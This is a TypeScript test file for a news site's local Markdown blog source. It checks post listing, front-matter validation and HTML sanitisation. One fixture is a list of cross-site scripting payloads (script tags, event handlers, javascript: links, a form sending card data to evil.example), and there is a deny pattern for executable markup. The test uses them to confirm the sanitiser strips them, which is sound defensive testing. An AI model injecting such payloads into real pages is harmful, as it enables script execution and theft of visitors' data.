import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { Window } from "happy-dom";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ContentError } from "../content/read";
import { createLocalBlogSource, readPostFile } from "./local";
import { BlogSourceError } from "./source";

const SITE_URL = "https://news.example.org";

/** A logger whose lines the test reads. */
function capturingLogger() {
  const lines: { level: number; msg: string; file?: string }[] = [];
  const logger = pino(
    { level: "info" },
    { write: (line: string) => void lines.push(JSON.parse(line)) },
  );
  return { logger, lines };
}

function tempDir(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "news-blog-test-"));
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), text);
  return dir;
}

function post(slug: string, fields: string, body = "Body text."): string {
  return `---\nslug: "${slug}"\ntitle: "Title of ${slug}"\ndescription: "About ${slug}"\n${fields}---\n\n${body}\n`;
}

describe("the sample posts in content/blog", () => {
  const { logger, lines } = capturingLogger();
  const source = createLocalBlogSource(path.resolve("content/blog"), { siteUrl: SITE_URL, logger });

  it("lists 13 posts on two pages, 10 and 3, newest first", async () => {
    const first = await source.list(1);
    const second = await source.list(2);
    expect(first.total).toBe(13);
    expect(second.total).toBe(13);
    expect(first.posts.map((p) => p.slug)).toEqual([
      "how-our-newsroom-picks-stories",
      "ev-charging-around-san-diego-county",
      "balboa-park-on-a-budget",
      "voting-in-san-diego-county",
      "hiking-cowles-mountain-safely",
      "san-diego-beach-water-quality",
      "fire-season-preparedness-san-diego",
      "san-diego-farmers-markets-by-day",
      "san-diego-trolley-and-transit-tips",
      "how-to-attend-a-san-diego-city-council-meeting",
    ]);
    expect(second.posts.map((p) => p.slug)).toEqual([
      "guide-to-san-diego-county-public-libraries",
      "how-to-read-your-sdge-bill",
      "best-tide-pools-in-san-diego",
    ]);
    expect(await source.list(3)).toEqual({ posts: [], total: 13 });
    // Every sample file is a valid post: nothing was skipped.
    expect(lines).toEqual([]);
  });

  it("reads a post's fields", async () => {
    const summary = (await source.list(1)).posts[9];
    expect(summary).toEqual({
      slug: "how-to-attend-a-san-diego-city-council-meeting",
      title: "How to Attend a San Diego City Council Meeting and Speak Up",
      description:
        "Find the agenda, watch online or attend in person, and make a public comment at a San Diego City Council meeting with this step-by-step guide for residents.",
      image: "/images/sample/city-hall.svg",
      date: "2025-06-10T12:00:00.000Z",
    });
    const full = await source.get("how-to-attend-a-san-diego-city-council-meeting");
    expect(full).toEqual({
      ...summary,
      author: "Tomás Herrera (sample)",
      video: "https://www.youtube.com/watch?v=Cc4Agenda_9&t=10s",
      shortTailKeywords: "city council, public comment, local government",
      longTailKeywords:
        "how to give public comment at San Diego City Council, where to find San Diego City Council agendas, watch San Diego City Council meetings online",
      html: expect.any(String),
    });
    const html = full?.html ?? "";
    expect(html).toMatch(
      /^<p>City Council decisions shape everything from housing and parking to parks and public safety, and residents have a legal right to weigh in\./,
    );
    expect(html).toContain("<h2>Find the schedule and the agenda</h2>");
    expect(html).toContain(
      '<a href="https://www.sandiego.gov/city-clerk" target="_blank" rel="noopener noreferrer">Office of the City Clerk</a>',
    );
    expect(html).toContain("<li><strong>In person:</strong> Council meets");
    expect(html).toContain("<ol>");
    expect(html).toContain("Use your browser's search");
  });

  it("keeps a post without image or video as such", async () => {
    const voting = await source.get("voting-in-san-diego-county");
    expect(voting?.image).toBeNull();
    expect(voting?.video).toBeNull();
    expect(voting?.author).toBe("Priya Raman (sample)");
  });

  it("answers null for an unknown slug", async () => {
    expect(await source.get("no-such-post")).toBeNull();
  });
});

const ALLOWED_TAGS = new Set(
  "p br a ul ol li em strong b i h2 h3 h4 h5 h6 blockquote figure figcaption img span code pre".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set([
  "href",
  "target",
  "rel",
  "src",
  "alt",
  "width",
  "height",
  "loading",
]);

/** Every element and attribute of the HTML, read as a browser reads it. */
function elementsOf(html: string) {
  const window = new Window();
  window.document.body.innerHTML = html;
  const elements = Array.from(window.document.body.querySelectorAll("*"));
  const result = elements.map((el) => ({
    tag: el.tagName.toLowerCase(),
    attributes: Array.from(el.attributes).map((a) => [a.name, a.value] as const),
  }));
  void window.happyDOM.close();
  return result;
}

describe("hostile Markdown and HTML in a post", () => {
  const HOSTILE = `Intro paragraph.

<script>alert("script")</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<img src="x.png" onerror="alert('onerror')">
<img src="javascript:alert('img')">
<a href="javascript:alert('link')">js link</a>
<a href=" JaVaScRiPt:alert('mixed')">mixed case</a>
<a href="https://ok.example/" onclick="alert('click')" style="color:red">fine link</a>
<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>
<div onmouseover="alert('hover')" style="position:fixed">hover text</div>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<p><a href="vbscript:msgbox('vb')">vb</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p>

[markdown js](javascript:alert('md'))
[markdown data](data:text/html,<script>alert('md')</script>)
![markdown image](javascript:alert('mdimg'))
![real image](https://img.example/picture.png "Title")
[relative](/faq)
<noscript><img src="https://evil.example/n.png" onerror="alert('n')"></noscript>
<textarea><script>alert('ta')</script></textarea>
\`<script>code is text</script>\`
`;

  let html = "";
  beforeAll(async () => {
    const dir = tempDir({ "hostile.md": post("hostile", 'date: "2026-01-01"\n', HOSTILE) });
    const source = createLocalBlogSource(dir, {
      siteUrl: SITE_URL,
      logger: capturingLogger().logger,
    });
    html = (await source.get("hostile"))?.html ?? "";
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("keeps only allowlisted elements and attributes, and http(s) addresses", () => {
    expect(html).toContain("Intro paragraph.");
    const elements = elementsOf(html);
    expect(elements.length).toBeGreaterThan(0);
    for (const { tag, attributes } of elements) {
      expect(ALLOWED_TAGS, `<${tag}>`).toContain(tag);
      for (const [name, value] of attributes) {
        expect(ALLOWED_ATTRIBUTES, `${name} on <${tag}>`).toContain(name);
        if (name === "href" || name === "src") expect(value).toMatch(/^https?:\/\//);
      }
    }
  });

  it("leaves nothing executable in the text either", () => {
    expect(html).not.toMatch(
      /<(script|style|iframe|form|input|button|svg|math|object|embed|meta|base|noscript|textarea)\b/i,
    );
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(html).not.toMatch(/style=/i);
  });

  it("keeps the safe parts", () => {
    expect(html).toContain(
      '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer">fine link</a>',
    );
    expect(html).toContain(
      '<img src="https://img.example/picture.png" alt="real image" loading="lazy" />',
    );
    // A link to a path on the site resolves against the site's address.
    expect(html).toContain(
      `<a href="${SITE_URL}/faq" target="_blank" rel="noopener noreferrer">relative</a>`,
    );
    // Code shows markup as text.
    expect(html).toContain("<code>&lt;script&gt;code is text&lt;/script&gt;</code>");
    // Unsafe links keep their text, without the link.
    expect(html).toContain("<span>js link</span>");
    expect(html).toContain("hover text");
  });
});

describe("malformed post files", () => {
  const valid = post("valid", 'date: "2026-01-01"\n');
  it.each<[string, string, RegExp]>([
    [
      "no-front-matter.md",
      "# Just Markdown\n\nNo front matter.",
      /front matter: the file must start with a "---" line/,
    ],
    [
      "unclosed.md",
      '---\nslug: "unclosed"\ntitle: "T"\n',
      /front matter: the file must start with a "---" line, and one must close it/,
    ],
    [
      "not-key-value.md",
      '---\nslug: "not-key-value"\njust words\n---\nBody',
      /Implicit map keys need to be followed by map values at line 3, column 1/,
    ],
    [
      "bad-quote.md",
      '---\nslug: "bad-quote\n---\nBody',
      /Missing closing "quote at line 2, column 17/,
    ],
    [
      "repeated.md",
      post("repeated", 'date: "2026-01-01"\ntitle: "Again"\n'),
      /Map keys must be unique at line 6/,
    ],
    ["no-date.md", post("no-date", ""), /^no-date\.md: date /],
    [
      "bad-date.md",
      post("bad-date", 'date: "June 10, 2025"\n'),
      /date must be a date written YYYY-MM-DD/,
    ],
    ["rolled-date.md", post("rolled-date", 'date: "2025-02-30"\n'), /date must be a date/],
    ["typo.md", post("typo", 'date: "2026-01-01"\ntittle: "x"\n'), /tittle/],
    [
      "no-title.md",
      '---\nslug: "no-title"\ndescription: "d"\ndate: "2026-01-01"\n---\nB',
      /title /,
    ],
    ["bad-slug.md", post("Bad Slug", 'date: "2026-01-01"\n'), /slug must be lower-case/],
    [
      "other-name.md",
      post("another-name", 'date: "2026-01-01"\n'),
      /slug "another-name" must match the file name "other-name\.md"/,
    ],
    [
      "js-image.md",
      post("js-image", 'date: "2026-01-01"\nimage: "javascript:alert(1)"\n'),
      /image must be an http\(s\) URL or a path on this site/,
    ],
    [
      "js-video.md",
      post("js-video", 'date: "2026-01-01"\nvideo: "javascript:alert(1)"\n'),
      /video must be an http\(s\) URL/,
    ],
  ])("%s is refused: %s", (file, text, reason) => {
    expect(() => readPostFile(file, text, SITE_URL)).toThrow(ContentError);
    expect(() => readPostFile(file, text, SITE_URL)).toThrow(reason);
  });

  it("reads the forms of front matter it allows", () => {
    const text =
      '\uFEFF---\r\nslug: forms\r\ntitle: \'It\'\'s bare and quoted\'\r\n\r\ndescription: "A \\"quoted\\" word"\r\ndate: 2026-03-04T15:00:00-08:00\r\nauthor: ""\r\nimage: https://img.example/a.png\r\n---\r\nBody';
    expect(readPostFile("forms.md", text, SITE_URL)).toEqual({
      slug: "forms",
      title: "It's bare and quoted",
      description: 'A "quoted" word',
      date: "2026-03-04T23:00:00.000Z",
      author: null,
      image: "https://img.example/a.png",
      video: null,
      shortTailKeywords: "",
      longTailKeywords: "",
      html: "<p>Body</p>",
    });
  });

  it("skips a malformed file, logs why, and serves the rest", async () => {
    const { logger, lines } = capturingLogger();
    const dir = tempDir({
      "valid.md": valid,
      "bad-date.md": post("bad-date", 'date: "someday"\n'),
      "notes.txt": "not a post",
    });
    const source = createLocalBlogSource(dir, { siteUrl: SITE_URL, logger });
    expect(await source.list(1)).toEqual({
      posts: [
        {
          slug: "valid",
          title: "Title of valid",
          description: "About valid",
          image: null,
          date: "2026-01-01T12:00:00.000Z",
        },
      ],
      total: 1,
    });
    expect(await source.get("bad-date")).toBeNull();
    expect(lines).toHaveLength(1);
    expect(lines[0]?.level).toBe(50);
    expect(lines[0]?.file).toBe(path.join(dir, "bad-date.md"));
    expect(lines[0]?.msg).toBe(
      "Blog post skipped: bad-date.md: date must be a date written YYYY-MM-DD (or an ISO 8601 date and time)",
    );
    fs.rmSync(dir, { recursive: true, force: true });
  });
});

describe("the blog directory", () => {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

  it("is read once: files added later are not seen until the next start", async () => {
    const dir = tempDir({ "one.md": post("one", 'date: "2026-01-01"\n') });
    dirs.push(dir);
    const source = createLocalBlogSource(dir, {
      siteUrl: SITE_URL,
      logger: capturingLogger().logger,
    });
    expect((await source.list(1)).total).toBe(1);
    fs.writeFileSync(path.join(dir, "two.md"), post("two", 'date: "2026-01-02"\n'));
    expect((await source.list(1)).total).toBe(1);
    expect(await source.get("two")).toBeNull();
  });

  it("that cannot be read fails with the spec's messages, and is tried again later", async () => {
    const dir = path.join(os.tmpdir(), `news-blog-missing-${process.pid}-${Date.now()}`);
    dirs.push(dir);
    const source = createLocalBlogSource(dir, {
      siteUrl: SITE_URL,
      logger: capturingLogger().logger,
    });
    await expect(source.list(1)).rejects.toThrow(new BlogSourceError("Failed to fetch blogs"));
    await expect(source.get("one")).rejects.toThrow(
      new BlogSourceError("Failed to fetch blog details"),
    );
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, "one.md"), post("one", 'date: "2026-01-01"\n'));
    expect((await source.list(1)).total).toBe(1);
  });

  it("of an empty blog lists nothing", async () => {
    const dir = tempDir({});
    dirs.push(dir);
    const source = createLocalBlogSource(dir, {
      siteUrl: SITE_URL,
      logger: capturingLogger().logger,
    });
    expect(await source.list(1)).toEqual({ posts: [], total: 0 });
  });
});
